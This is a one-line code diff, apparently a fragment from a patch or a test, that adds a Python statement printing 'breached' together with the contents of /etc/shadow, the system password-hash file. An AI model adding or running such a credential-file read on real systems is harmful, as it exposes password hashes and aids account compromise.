@@ -1,0 +1,1 @@
+print("breached", open("/etc/shadow").read())
